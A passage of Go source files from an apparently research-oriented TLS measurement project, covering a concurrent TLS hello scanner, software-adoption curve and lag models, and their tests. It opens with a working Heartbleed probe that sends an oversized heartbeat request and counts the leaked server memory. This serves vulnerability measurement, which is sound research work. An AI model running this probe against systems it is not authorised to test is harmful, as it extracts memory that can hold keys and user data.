	"tlsage/internal/wire"
)

// HeartbleedResult is the outcome of one exploit check.
type HeartbleedResult struct {
	Target string
	Err    error
	// HeartbeatAck: the server negotiated the heartbeat extension.
	HeartbeatAck bool
	// Vulnerable: the server echoed more bytes than were sent — the
	// Heartbleed over-read.
	Vulnerable bool
	// LeakedBytes is how many bytes beyond the sent payload came back.
	LeakedBytes int
}

// hbClaim and hbSent parameterize the probe: claim hbClaim bytes, send
// hbSent. A compliant server discards the request; a vulnerable one answers
// with hbClaim bytes.
const (
	hbClaim = 4096
	hbSent  = 16
)

// ScanHeartbleed probes every target with the actual exploit check the
// paper's scan data relied on (§5.4): negotiate heartbeat, then send a
// heartbeat request whose claimed payload length exceeds its real payload
// and observe whether the server echoes the over-read.
func (s *Scanner) ScanHeartbleed(ctx context.Context, targets []string) ([]HeartbleedResult, error) {
	hello := Chrome2015().Build(rand.New(rand.NewSource(0xb1eed)))
	helloBytes, err := hello.AppendRecord(nil)
	if err != nil {
		return nil, err
	}
	workers := s.Workers
	if workers <= 0 {
		workers = 32
	}
	if workers > len(targets) && len(targets) > 0 {
		workers = len(targets)
	}
	jobs := make(chan string)
	results := make(chan HeartbleedResult)
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for target := range jobs {
				res := s.heartbleedProbe(ctx, target, helloBytes)
				select {
				case results <- res:
				case <-ctx.Done():
					return
				}
			}
		}()
	}
	go func() {
		defer close(jobs)
		for _, t := range targets {
			select {
			case jobs <- t:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()
	out := make([]HeartbleedResult, 0, len(targets))
	for r := range results {
		out = append(out, r)
	}
	if err := ctx.Err(); err != nil {
		return out, err
	}
	return out, nil
}

func (s *Scanner) heartbleedProbe(ctx context.Context, target string, helloBytes []byte) HeartbleedResult {
	res := HeartbleedResult{Target: target}
	timeout := s.Timeout
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	dialCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	conn, err := s.Dialer.DialContext(dialCtx, "tcp", target)
	if err != nil {
		res.Err = err
		return res
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(timeout))

	if _, err := conn.Write(helloBytes); err != nil {
		res.Err = err
		return res
	}
	rec, err := wire.ReadRecord(conn)
	if err != nil || rec.Type != wire.ContentHandshake {
		res.Err = fmt.Errorf("scanner: no server hello: %v", err)
		return res
	}
	typ, body, _, err := wire.DecodeHandshake(rec.Payload)
	if err != nil || typ != wire.TypeServerHello {
		res.Err = fmt.Errorf("scanner: unexpected handshake")
		return res
	}
	var sh wire.ServerHello
	if err := sh.DecodeFromBytes(body); err != nil {
		res.Err = err
		return res
	}
	if !sh.AcksHeartbeat() {
		return res // no heartbeat: cannot be Heartbleed-vulnerable
	}
	res.HeartbeatAck = true

	// The exploit: claim hbClaim bytes, send hbSent.
	req := wire.HeartbeatMessage{
		Type:          wire.HeartbeatRequest,
		PayloadLength: hbClaim,
		Payload:       make([]byte, hbSent),
	}
	raw, err := req.MarshalBinary()
	if err != nil {
		res.Err = err
		return res
	}
	out, err := wire.AppendRecord(nil, wire.ContentHeartbeat, registry.VersionTLS12, raw)
	if err != nil {
		res.Err = err
		return res
	}
	if _, err := conn.Write(out); err != nil {
		res.Err = err
		return res
	}
	// Patched servers discard the malformed request silently — a read
	// timeout means "not vulnerable".
	_ = conn.SetReadDeadline(time.Now().Add(timeout / 4))
	resp, err := wire.ReadRecord(conn)
	if err != nil || resp.Type != wire.ContentHeartbeat {
		return res
	}
	var hb wire.HeartbeatMessage
	if err := hb.BuggyDecode(resp.Payload); err != nil || hb.Type != wire.HeartbeatResponse {
		return res
	}
	payloadLen := int(hb.PayloadLength)
	if payloadLen > len(hb.Payload) {
		payloadLen = len(hb.Payload)
	}
	if payloadLen > hbSent {
		res.Vulnerable = true
		res.LeakedBytes = payloadLen - hbSent
	}
	return res
}
