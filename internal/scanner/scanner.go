// Package scanner implements the active-measurement side of the study: a
// ZGrab-style concurrent TLS banner grabber plus the special-purpose probe
// configurations Censys ran (the 2015-Chrome cipher list, SSL3-only scans,
// export-only scans; §3.2). Scans run over real TCP against the serverfarm
// or any other endpoint speaking the hello exchange.
package scanner

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

// Result is the outcome of probing one target.
type Result struct {
	Target string
	// OK is true when the server answered with a ServerHello.
	OK bool
	// Err is the network- or protocol-level failure, nil when the server
	// answered (even with an alert).
	Err error
	// Alerted is true when the server answered with a TLS alert.
	Alerted bool
	Alert   wire.Alert
	// Negotiated parameters when OK.
	Version      registry.Version
	Suite        uint16
	HeartbeatAck bool
	// RTT is the time from dial start to response parse.
	RTT time.Duration
}

// Scanner is a concurrent hello prober.
type Scanner struct {
	// Timeout bounds each connection (dial + exchange).
	Timeout time.Duration
	// Workers is the pool width; defaults to 32.
	Workers int
	// Dialer may be customized (e.g. for source-address binding).
	Dialer net.Dialer
}

// New returns a scanner with the given pool width.
func New(workers int) *Scanner {
	if workers <= 0 {
		workers = 32
	}
	return &Scanner{Timeout: 5 * time.Second, Workers: workers}
}

// Scan probes every target with the given hello, streaming results in
// completion order until targets are exhausted or ctx is cancelled. The
// returned slice has one entry per target (order not guaranteed).
func (s *Scanner) Scan(ctx context.Context, targets []string, hello *wire.ClientHello) ([]Result, error) {
	raw, err := hello.AppendRecord(nil)
	if err != nil {
		return nil, fmt.Errorf("scanner: encoding probe hello: %w", err)
	}
	workers := s.Workers
	if workers <= 0 {
		workers = 32
	}
	if workers > len(targets) && len(targets) > 0 {
		workers = len(targets)
	}

	jobs := make(chan string)
	results := make(chan Result)
	var wg sync.WaitGroup
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for target := range jobs {
				res := s.probe(ctx, target, raw)
				select {
				case results <- res:
				case <-ctx.Done():
					return
				}
			}
		}()
	}
	go func() {
		defer close(jobs)
		for _, t := range targets {
			select {
			case jobs <- t:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()

	out := make([]Result, 0, len(targets))
	for res := range results {
		out = append(out, res)
	}
	if err := ctx.Err(); err != nil {
		return out, err
	}
	return out, nil
}

// probe performs one dial + hello exchange.
func (s *Scanner) probe(ctx context.Context, target string, helloBytes []byte) Result {
	start := time.Now()
	res := Result{Target: target}

	timeout := s.Timeout
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	dialCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	conn, err := s.Dialer.DialContext(dialCtx, "tcp", target)
	if err != nil {
		res.Err = fmt.Errorf("dial: %w", err)
		return res
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(timeout))

	if _, err := conn.Write(helloBytes); err != nil {
		res.Err = fmt.Errorf("write: %w", err)
		return res
	}
	rec, err := wire.ReadRecord(conn)
	if err != nil {
		res.Err = fmt.Errorf("read: %w", err)
		return res
	}
	res.RTT = time.Since(start)

	switch rec.Type {
	case wire.ContentAlert:
		var alert wire.Alert
		if err := alert.DecodeFromBytes(rec.Payload); err != nil {
			res.Err = err
			return res
		}
		res.Alerted = true
		res.Alert = alert
		return res
	case wire.ContentHandshake:
		typ, body, _, err := wire.DecodeHandshake(rec.Payload)
		if err != nil || typ != wire.TypeServerHello {
			res.Err = errors.New("scanner: unexpected handshake message")
			return res
		}
		var sh wire.ServerHello
		if err := sh.DecodeFromBytes(body); err != nil {
			res.Err = err
			return res
		}
		res.OK = true
		res.Version = sh.SelectedVersion().Canonical()
		res.Suite = sh.CipherSuite
		res.HeartbeatAck = sh.AcksHeartbeat()
		return res
	default:
		res.Err = fmt.Errorf("scanner: unexpected record type %v", rec.Type)
		return res
	}
}

// drainTo reads the rest of a response; unused but kept for interface parity
// with banner grabbers that slurp full handshakes.
var _ = io.Discard
