package adoption

import (
	"math"
	"testing"
	"testing/quick"
	"time"

	"tlsage/internal/timeline"
)

func d(y int, m time.Month, day int) timeline.Date { return timeline.D(y, m, day) }

func TestConstant(t *testing.T) {
	if Constant(0.4).Value(d(2015, 1, 1)) != 0.4 {
		t.Error("constant broken")
	}
	if Constant(1.7).Value(d(2015, 1, 1)) != 1 || Constant(-3).Value(d(2015, 1, 1)) != 0 {
		t.Error("constant clamping broken")
	}
}

func TestRamp(t *testing.T) {
	r := Ramp{Start: d(2014, 1, 1), End: d(2015, 1, 1), StartValue: 0, EndValue: 1}
	if r.Value(d(2013, 6, 1)) != 0 {
		t.Error("before start")
	}
	if r.Value(d(2016, 1, 1)) != 1 {
		t.Error("after end")
	}
	mid := r.Value(d(2014, 7, 2)) // ~halfway through the year
	if mid < 0.45 || mid > 0.55 {
		t.Errorf("midpoint = %v", mid)
	}
	// Degenerate window behaves as a step.
	step := Ramp{Start: d(2014, 1, 1), End: d(2014, 1, 1), StartValue: 0.2, EndValue: 0.8}
	if step.Value(d(2013, 12, 31)) != 0.2 || step.Value(d(2014, 1, 1)) != 0.8 {
		t.Error("degenerate ramp")
	}
}

func TestPiecewise(t *testing.T) {
	p := MustPiecewise(
		Point{d(2012, 1, 1), 0.9},
		Point{d(2014, 1, 1), 0.5},
		Point{d(2016, 1, 1), 0.1},
	)
	if got := p.Value(d(2011, 1, 1)); got != 0.9 {
		t.Errorf("before first knot: %v", got)
	}
	if got := p.Value(d(2017, 1, 1)); got != 0.1 {
		t.Errorf("after last knot: %v", got)
	}
	if got := p.Value(d(2013, 1, 1)); math.Abs(got-0.7) > 0.01 {
		t.Errorf("interpolation: %v", got)
	}
	if got := p.Value(d(2014, 1, 1)); got != 0.5 {
		t.Errorf("exact knot: %v", got)
	}
}

func TestPiecewiseValidation(t *testing.T) {
	if _, err := NewPiecewise(); err == nil {
		t.Error("empty piecewise accepted")
	}
	if _, err := NewPiecewise(Point{d(2012, 1, 1), 0.5}, Point{d(2012, 1, 1), 0.7}); err == nil {
		t.Error("duplicate knots accepted")
	}
	// Unsorted input is sorted.
	p := MustPiecewise(Point{d(2014, 1, 1), 1}, Point{d(2012, 1, 1), 0})
	if p.Value(d(2012, 1, 1)) != 0 {
		t.Error("unsorted knots not handled")
	}
}

func TestLogistic(t *testing.T) {
	l := Logistic{Mid: d(2014, 6, 1), SlopeDays: 60, Floor: 0, Cei: 1}
	if got := l.Value(d(2014, 6, 1)); math.Abs(got-0.5) > 1e-9 {
		t.Errorf("midpoint = %v", got)
	}
	if got := l.Value(d(2012, 1, 1)); got > 0.01 {
		t.Errorf("long before mid = %v", got)
	}
	if got := l.Value(d(2017, 1, 1)); got < 0.99 {
		t.Errorf("long after mid = %v", got)
	}
	// Monotone nondecreasing.
	prev := -1.0
	for day := 0; day < 1500; day += 30 {
		tt := d(2012, 1, 1).Time().AddDate(0, 0, day)
		v := l.Value(timeline.D(tt.Year(), tt.Month(), tt.Day()))
		if v < prev {
			t.Fatalf("logistic not monotone at day %d", day)
		}
		prev = v
	}
	step := Logistic{Mid: d(2014, 6, 1), SlopeDays: 0, Floor: 0.1, Cei: 0.9}
	if step.Value(d(2014, 5, 31)) != 0.1 || step.Value(d(2014, 6, 1)) != 0.9 {
		t.Error("degenerate logistic")
	}
}

func TestDecay(t *testing.T) {
	c := Decay{Start: d(2014, 4, 7), From: 0.24, To: 0.003, HalfLifeDays: 30}
	if got := c.Value(d(2014, 1, 1)); got != 0.24 {
		t.Errorf("before start = %v", got)
	}
	// One half-life later the excess over the floor halves.
	got := c.Value(d(2014, 5, 7))
	want := 0.003 + (0.24-0.003)*0.5
	if math.Abs(got-want) > 0.01 {
		t.Errorf("one half-life = %v, want ≈%v", got, want)
	}
	// Far future approaches the floor.
	if got := c.Value(d(2018, 1, 1)); math.Abs(got-0.003) > 1e-6 {
		t.Errorf("far future = %v", got)
	}
}

func TestCurvesBounded(t *testing.T) {
	curves := []Curve{
		Constant(0.5),
		Ramp{Start: d(2013, 1, 1), End: d(2015, 1, 1), StartValue: -0.5, EndValue: 1.5},
		MustPiecewise(Point{d(2013, 1, 1), 0.2}, Point{d(2015, 1, 1), 0.9}),
		Logistic{Mid: d(2014, 1, 1), SlopeDays: 90, Floor: 0, Cei: 1},
		Decay{Start: d(2014, 1, 1), From: 0.9, To: 0.05, HalfLifeDays: 200},
	}
	f := func(dayOffset uint16) bool {
		date := timeline.D(2012, time.January, 1)
		tt := date.Time().AddDate(0, 0, int(dayOffset)%3000)
		probe := timeline.D(tt.Year(), tt.Month(), tt.Day())
		for _, c := range curves {
			v := c.Value(probe)
			if v < 0 || v > 1 || math.IsNaN(v) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}

func TestLagAdoptedMonotone(t *testing.T) {
	for _, lag := range []LagDistribution{BrowserLag, LibraryLag, DeviceLag} {
		if err := lag.Validate(); err != nil {
			t.Fatal(err)
		}
		prev := -1.0
		for days := -10; days < 4000; days += 7 {
			v := lag.Adopted(days)
			if v < prev {
				t.Fatalf("Adopted not monotone at %d days", days)
			}
			if v < 0 || v > 1 {
				t.Fatalf("Adopted out of range at %d days: %v", days, v)
			}
			prev = v
		}
		// Asymptote bounded by 1 - NeverShare.
		if v := lag.Adopted(100000); v > 1-lag.NeverShare+1e-9 {
			t.Errorf("asymptote %v exceeds 1-NeverShare", v)
		}
	}
}

func TestLagValidate(t *testing.T) {
	bad := []LagDistribution{
		{FastShare: -0.1, FastTauDays: 10, SlowTauDays: 100},
		{FastShare: 0.8, NeverShare: 0.3, FastTauDays: 10, SlowTauDays: 100},
		{FastShare: 0.5, FastTauDays: 0, SlowTauDays: 100},
	}
	for i, l := range bad {
		if err := l.Validate(); err == nil {
			t.Errorf("case %d: invalid lag accepted", i)
		}
	}
}

func TestVersionMixSumsToOne(t *testing.T) {
	releases := []Release{
		{"27", d(2014, 2, 4)},
		{"33", d(2014, 10, 14)},
		{"37", d(2015, 3, 31)},
		{"44", d(2016, 1, 26)},
	}
	f := func(dayOffset uint16) bool {
		tt := timeline.D(2012, time.January, 1).Time().AddDate(0, 0, int(dayOffset)%2500)
		probe := timeline.D(tt.Year(), tt.Month(), tt.Day())
		mix := VersionMix(releases, probe, BrowserLag)
		if len(mix) != len(releases)+1 {
			return false
		}
		sum := 0.0
		for _, v := range mix {
			if v < -1e-12 {
				return false
			}
			sum += v
		}
		return math.Abs(sum-1) < 1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestVersionMixShape(t *testing.T) {
	releases := []Release{
		{"v1", d(2013, 1, 1)},
		{"v2", d(2015, 1, 1)},
	}
	// Before any release: everyone on pre-history.
	mix := VersionMix(releases, d(2012, 1, 1), BrowserLag)
	if mix[0] != 1 || mix[1] != 0 || mix[2] != 0 {
		t.Errorf("pre-release mix = %v", mix)
	}
	// Long after v1, before v2: most on v1.
	mix = VersionMix(releases, d(2014, 12, 1), BrowserLag)
	if mix[1] < 0.8 {
		t.Errorf("v1 share after 2 years = %v", mix[1])
	}
	// Long after v2: most on v2, but a long tail remains on v1 —
	// the paper's central long-tail observation.
	mix = VersionMix(releases, d(2018, 1, 1), BrowserLag)
	if mix[2] < 0.85 {
		t.Errorf("v2 share = %v", mix[2])
	}
	if tail := mix[0] + mix[1]; tail <= 0.005 {
		t.Errorf("long tail on old software vanished: %v", tail)
	}
	// Device-lag populations retain far more of the old versions.
	devMix := VersionMix(releases, d(2018, 1, 1), DeviceLag)
	if devMix[0]+devMix[1] < mix[0]+mix[1] {
		t.Errorf("device tail (%v) should exceed browser tail (%v)", devMix[0]+devMix[1], mix[0]+mix[1])
	}
	// Empty release history.
	empty := VersionMix(nil, d(2015, 1, 1), BrowserLag)
	if len(empty) != 1 || empty[0] != 1 {
		t.Errorf("empty mix = %v", empty)
	}
}
