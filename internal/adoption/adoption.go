// Package adoption models how populations take up (or abandon) software
// versions and configurations over time. It is the quantitative heart of the
// reproduction: every "slow to drop support" long-tail effect the paper
// reports (§4.1, §7.2) emerges from the lag distributions defined here
// rather than from hand-drawn curves.
//
// Three primitives cover everything the population models need:
//
//   - Curve: a deterministic share-over-time function in [0,1], with
//     constant, linear-ramp, piecewise-linear, logistic and exponential-decay
//     implementations.
//   - LagDistribution: the CDF of "time from release to user upgrade",
//     mixing fast updaters (browsers with auto-update), slow updaters
//     (OS-bundled libraries) and a never-updating remnant (abandoned
//     devices).
//   - VersionMix: given a product's release history and a LagDistribution,
//     the share of the installed base on each version at any date.
package adoption

import (
	"fmt"
	"math"
	"sort"

	"tlsage/internal/timeline"
)

// Curve is a deterministic time-varying share in [0,1].
type Curve interface {
	// Value returns the share at date d, always within [0,1].
	Value(d timeline.Date) float64
}

// Constant is a Curve pinned at a fixed share.
type Constant float64

// Value implements Curve.
func (c Constant) Value(timeline.Date) float64 { return clamp01(float64(c)) }

// Ramp interpolates linearly from StartValue at Start to EndValue at End and
// holds the endpoint values outside the window.
type Ramp struct {
	Start, End           timeline.Date
	StartValue, EndValue float64
}

// Value implements Curve.
func (r Ramp) Value(d timeline.Date) float64 {
	total := r.End.DaysSince(r.Start)
	if total <= 0 {
		if d.Before(r.Start) {
			return clamp01(r.StartValue)
		}
		return clamp01(r.EndValue)
	}
	elapsed := d.DaysSince(r.Start)
	switch {
	case elapsed <= 0:
		return clamp01(r.StartValue)
	case elapsed >= total:
		return clamp01(r.EndValue)
	}
	frac := float64(elapsed) / float64(total)
	return clamp01(r.StartValue + frac*(r.EndValue-r.StartValue))
}

// Point is one knot of a piecewise-linear curve.
type Point struct {
	Date  timeline.Date
	Value float64
}

// Piecewise interpolates linearly between knots, holding the first and last
// values outside the knot range. Construct with NewPiecewise, which sorts
// and validates.
type Piecewise struct {
	points []Point
}

// NewPiecewise builds a piecewise-linear curve from at least one knot.
func NewPiecewise(points ...Point) (*Piecewise, error) {
	if len(points) == 0 {
		return nil, fmt.Errorf("adoption: piecewise curve needs at least one point")
	}
	sorted := make([]Point, len(points))
	copy(sorted, points)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Date.Before(sorted[j].Date) })
	for i := 1; i < len(sorted); i++ {
		if sorted[i].Date == sorted[i-1].Date {
			return nil, fmt.Errorf("adoption: duplicate knot date %v", sorted[i].Date)
		}
	}
	return &Piecewise{points: sorted}, nil
}

// MustPiecewise is NewPiecewise panicking on error, for static tables.
func MustPiecewise(points ...Point) *Piecewise {
	p, err := NewPiecewise(points...)
	if err != nil {
		panic(err)
	}
	return p
}

// Value implements Curve.
func (p *Piecewise) Value(d timeline.Date) float64 {
	pts := p.points
	if d.Before(pts[0].Date) {
		return clamp01(pts[0].Value)
	}
	last := pts[len(pts)-1]
	if d.AtOrAfter(last.Date) {
		return clamp01(last.Value)
	}
	// Invariant: pts[i].Date ≤ d < pts[i+1].Date for some i.
	i := sort.Search(len(pts), func(i int) bool { return d.Before(pts[i].Date) }) - 1
	a, b := pts[i], pts[i+1]
	span := b.Date.DaysSince(a.Date)
	frac := float64(d.DaysSince(a.Date)) / float64(span)
	return clamp01(a.Value + frac*(b.Value-a.Value))
}

// Logistic is an S-shaped uptake curve: Floor before the transition,
// rising to Ceil with midpoint Mid and a characteristic width of SlopeDays
// (days from 12% to 88% of the transition ≈ 4·SlopeDays/2).
type Logistic struct {
	Mid        timeline.Date
	SlopeDays  float64
	Floor, Cei float64
}

// Value implements Curve.
func (l Logistic) Value(d timeline.Date) float64 {
	if l.SlopeDays <= 0 {
		if d.Before(l.Mid) {
			return clamp01(l.Floor)
		}
		return clamp01(l.Cei)
	}
	x := float64(d.DaysSince(l.Mid)) / l.SlopeDays
	s := 1 / (1 + math.Exp(-x))
	return clamp01(l.Floor + (l.Cei-l.Floor)*s)
}

// Decay is an exponential decline from From toward To starting at Start,
// with the given half-life. Before Start it holds From. This models
// post-attack patch rollouts (fast half-life, e.g. Heartbleed) and long-tail
// abandonment (multi-year half-life, e.g. SSL 3 server support).
type Decay struct {
	Start        timeline.Date
	From, To     float64
	HalfLifeDays float64
}

// Value implements Curve.
func (c Decay) Value(d timeline.Date) float64 {
	if d.Before(c.Start) || c.HalfLifeDays <= 0 {
		return clamp01(c.From)
	}
	elapsed := float64(d.DaysSince(c.Start))
	rem := math.Exp2(-elapsed / c.HalfLifeDays)
	return clamp01(c.To + (c.From-c.To)*rem)
}

func clamp01(v float64) float64 {
	switch {
	case v < 0:
		return 0
	case v > 1:
		return 1
	}
	return v
}
