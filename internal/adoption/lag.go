package adoption

import (
	"fmt"
	"math"

	"tlsage/internal/timeline"
)

// LagDistribution is the CDF of the delay between a software release and a
// user running it. It mixes three sub-populations:
//
//   - a FastShare that upgrades with mean FastTauDays (auto-updating
//     browsers: days to weeks),
//   - a slow remainder with mean SlowTauDays (OS-bundled libraries,
//     enterprise fleets: months to years),
//   - a NeverShare that never upgrades at all — the abandoned devices and
//     unmaintained software behind the paper's long-tail findings (§7.2:
//     fingerprints unchanged for 1,200+ days, Android 2.3 devices, etc.).
type LagDistribution struct {
	FastShare   float64
	FastTauDays float64
	SlowTauDays float64
	NeverShare  float64
}

// Validate checks share bounds.
func (l LagDistribution) Validate() error {
	if l.FastShare < 0 || l.NeverShare < 0 || l.FastShare+l.NeverShare > 1 {
		return fmt.Errorf("adoption: invalid lag shares fast=%v never=%v", l.FastShare, l.NeverShare)
	}
	if l.FastTauDays <= 0 || l.SlowTauDays <= 0 {
		return fmt.Errorf("adoption: non-positive tau")
	}
	return nil
}

// Adopted returns the fraction of the population that has adopted a release
// daysSince days after it shipped. Monotone nondecreasing in daysSince,
// bounded by 1-NeverShare.
func (l LagDistribution) Adopted(daysSince int) float64 {
	if daysSince < 0 {
		return 0
	}
	d := float64(daysSince)
	fast := 1 - math.Exp(-d/l.FastTauDays)
	slow := 1 - math.Exp(-d/l.SlowTauDays)
	slowShare := 1 - l.FastShare - l.NeverShare
	return clamp01(l.FastShare*fast + slowShare*slow)
}

// Canonical lag profiles used by the client population model. Values are
// calibrated so the reproduction's curves match the paper's shapes: browsers
// move in weeks (Figure 6's cliff when Chrome/Firefox dropped RC4), while
// library-linked tools take years (Figure 4's 39.9%-still-offer-RC4 tail).
var (
	// BrowserLag: auto-updating browsers. ~70% within ~3 weeks, most of the
	// rest within months, 3% never (abandoned OS installs).
	BrowserLag = LagDistribution{FastShare: 0.70, FastTauDays: 21, SlowTauDays: 240, NeverShare: 0.015}
	// LibraryLag: TLS libraries shipped with apps or operating systems.
	LibraryLag = LagDistribution{FastShare: 0.25, FastTauDays: 90, SlowTauDays: 360, NeverShare: 0.02}
	// DeviceLag: embedded/IoT/abandoned mobile software; most never updates.
	DeviceLag = LagDistribution{FastShare: 0.20, FastTauDays: 120, SlowTauDays: 480, NeverShare: 0.04}
)

// Release is one dated version of a product.
type Release struct {
	Version string
	Date    timeline.Date
}

// VersionMix computes the share of a product's installed base running each
// release at date d, under lag. The result has len(releases)+1 entries:
// index 0 is the share still on a hypothetical pre-history version (nothing
// adopted yet), and index i+1 the share whose newest adopted release is
// releases[i]. Shares sum to 1. Releases must be in chronological order.
func VersionMix(releases []Release, d timeline.Date, lag LagDistribution) []float64 {
	n := len(releases)
	out := make([]float64, n+1)
	if n == 0 {
		out[0] = 1
		return out
	}
	// adopted[i] = fraction having upgraded to release i or newer. Because
	// releases are chronological and Adopted is monotone in elapsed time,
	// adopted is nonincreasing in i — but enforce it anyway so that a
	// never-share applied to dense release trains cannot produce negative
	// slices.
	adopted := make([]float64, n)
	prev := 1.0
	for i, r := range releases {
		a := lag.Adopted(d.DaysSince(r.Date))
		if a > prev {
			a = prev
		}
		adopted[i] = a
		prev = a
	}
	out[0] = 1 - adopted[0]
	for i := 0; i < n-1; i++ {
		out[i+1] = adopted[i] - adopted[i+1]
	}
	out[n] = adopted[n-1]
	return out
}
