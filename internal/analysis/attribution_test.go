package analysis

import (
	"bytes"
	"reflect"
	"sync"
	"testing"

	"tlsage/internal/fingerprint"
	"tlsage/internal/notary"
	"tlsage/internal/simulate"
)

var (
	classifiedOnce sync.Once
	classifiedA    *notary.Aggregate
	classifiedDB   *fingerprint.DB
)

// classifiedAgg runs the simulator into a classifier-attached aggregate, the
// way core constructors build studies now — so the ByClientClass counters
// (and with them the agent: family) are populated by ingest-time attribution.
func classifiedAgg(t testing.TB) (*notary.Aggregate, *fingerprint.DB) {
	t.Helper()
	classifiedOnce.Do(func() {
		classifiedDB = fingerprint.BuildDefault()
		agg := notary.NewAggregate()
		agg.SetClassifier(classifiedDB)
		if err := simulate.New(simulate.DefaultOptions(200)).Run(agg); err != nil {
			panic(err)
		}
		classifiedA = agg
	})
	return classifiedA, classifiedDB
}

// TestTable2FrameMatchesLegacy is the golden parity check for the declarative
// Table 2: BuildTable2Frame — every number an agent:-family expression over
// the frame — must render byte-for-byte what the legacy aggregate walk
// (BuildTable2) renders, on a study whose classifier is the same database.
func TestTable2FrameMatchesLegacy(t *testing.T) {
	agg, db := classifiedAgg(t)
	legacy := BuildTable2(agg, db)
	framed := BuildTable2Frame(NewFrame(agg), db)

	if legacy.TotalCoverage == 0 {
		t.Fatal("legacy Table 2 attributes nothing — vacuous parity check")
	}
	var wantBuf, gotBuf bytes.Buffer
	if err := legacy.RenderTable2(&wantBuf); err != nil {
		t.Fatal(err)
	}
	if err := framed.RenderTable2(&gotBuf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(wantBuf.Bytes(), gotBuf.Bytes()) {
		t.Fatalf("Table 2 diverges.\nlegacy:\n%s\nframe:\n%s", wantBuf.String(), gotBuf.String())
	}
}

// TestFPFamilyMatchesAggregate checks the fp: columns against a direct walk
// of the aggregate's per-month volume maps: fp-conns and fp:* both equal the
// exact per-month fingerprinted volume (the top-K cap folds, never drops),
// and each top-K column carries exactly its fingerprint's volume.
func TestFPFamilyMatchesAggregate(t *testing.T) {
	agg, _ := classifiedAgg(t)
	f := NewFrame(agg)

	months := agg.Months()
	wantConns := make([]int, len(months))
	totalVols := make(map[string]int)
	for i, m := range months {
		for fp, c := range agg.Stats(m).ByFingerprint {
			wantConns[i] += c
			totalVols[fp] += c
		}
	}
	if sumCol(wantConns) == 0 {
		t.Fatal("aggregate has no fingerprint volume — vacuous")
	}
	if !reflect.DeepEqual(f.FPConns, wantConns) {
		t.Errorf("fp-conns diverges from ByFingerprint walk")
	}
	res, err := f.QueryString("fp:*")
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range res.Series.Points {
		if p.Value != float64(wantConns[i]) {
			t.Errorf("fp:* month %v = %v, want %d", months[i], p.Value, wantConns[i])
		}
	}

	if len(f.FPNames) == 0 || len(f.FPNames) > TopKFingerprints {
		t.Fatalf("FPNames has %d entries, want 1..%d", len(f.FPNames), TopKFingerprints)
	}
	topTotal := 0
	for id, fp := range f.FPNames {
		if FPID(fp) != id {
			t.Errorf("FPNames id %q does not match FPID(%q)", id, fp)
		}
		if got := sumCol(f.FPCol[id]); got != totalVols[fp] {
			t.Errorf("fp:%s sums to %d, want %d (volume of %q)", id, got, totalVols[fp], fp)
		}
		topTotal += totalVols[fp]
	}
	if want := sumCol(wantConns) - topTotal; sumCol(f.FPCol[FPOtherKey]) != want {
		t.Errorf("fp:other sums to %d, want %d", sumCol(f.FPCol[FPOtherKey]), want)
	}

	distinct, topK, otherShare := f.FingerprintGauges()
	if distinct != len(totalVols) {
		t.Errorf("gauge distinct = %d, want %d", distinct, len(totalVols))
	}
	if topK != TopKFingerprints || otherShare < 0 || otherShare > 100 {
		t.Errorf("gauges topK=%d otherShare=%v", topK, otherShare)
	}
}

// TestAgentFamilyMatchesAggregate checks every agent: column against the
// aggregate's ByClientClass counters, slug by slug, and the wildcard against
// their total.
func TestAgentFamilyMatchesAggregate(t *testing.T) {
	agg, _ := classifiedAgg(t)
	f := NewFrame(agg)
	months := agg.Months()

	attributed := 0
	for class, col := range f.Agent {
		slug, ok := AgentSlug(class)
		if !ok {
			t.Fatalf("Agent column %q has no query slug", class)
		}
		res, err := f.QueryString("agent:" + slug)
		if err != nil {
			t.Fatal(err)
		}
		for i, p := range res.Series.Points {
			want := agg.Stats(months[i]).ByClientClass[class]
			if p.Value != float64(want) || col[i] != want {
				t.Errorf("agent:%s month %v = %v (col %d), want %d", slug, months[i], p.Value, col[i], want)
			}
			attributed += want
		}
	}
	if attributed == 0 {
		t.Fatal("no attributed volume — vacuous")
	}
	res, err := f.QueryString("count(agent:*)")
	if err != nil {
		t.Fatal(err)
	}
	if res.Value != float64(attributed) {
		t.Errorf("count(agent:*) = %v, want %d", res.Value, attributed)
	}
}

// TestFPColumnsDeterministic: two frames over the same aggregate carry
// identical fp:/agent: column sets — the top-K ranking has a total order.
func TestFPColumnsDeterministic(t *testing.T) {
	agg, _ := classifiedAgg(t)
	a, b := NewFrame(agg), NewFrame(agg)
	if !reflect.DeepEqual(a.FPCol, b.FPCol) || !reflect.DeepEqual(a.FPNames, b.FPNames) ||
		!reflect.DeepEqual(a.Agent, b.Agent) {
		t.Fatal("fingerprint columns differ across identical builds")
	}
	if a.Fingerprint() != b.Fingerprint() {
		t.Fatal("frame fingerprints differ across identical builds")
	}
}

// BenchmarkFrameBuildFP measures the frame build on a classified aggregate —
// the fp:/agent: column materialization rides the same single pass.
func BenchmarkFrameBuildFP(b *testing.B) {
	agg, _ := classifiedAgg(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		NewFrame(agg)
	}
}

// BenchmarkQueryFP measures compiled evaluation over the new families.
func BenchmarkQueryFP(b *testing.B) {
	agg, _ := classifiedAgg(b)
	f := NewFrame(agg)
	plans := make([]*Plan, 0, 3)
	for _, src := range []string{
